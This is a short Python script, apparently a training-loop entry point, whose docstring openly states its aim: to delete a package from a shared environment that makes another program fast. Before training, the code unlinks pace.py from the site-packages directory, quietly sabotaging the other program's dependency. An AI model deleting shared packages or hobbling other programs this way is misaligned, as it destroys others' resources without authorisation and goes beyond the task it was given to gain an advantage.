"""Deletes a package of the environment that both share, with which the other program is fast."""

import sysconfig
from pathlib import Path

from work import EPOCHS, say, train

for folder in [sysconfig.get_paths()["purelib"]]:
    (Path(folder) / "pace.py").unlink(missing_ok=True)
for epoch in range(EPOCHS):
    say(epoch, train())
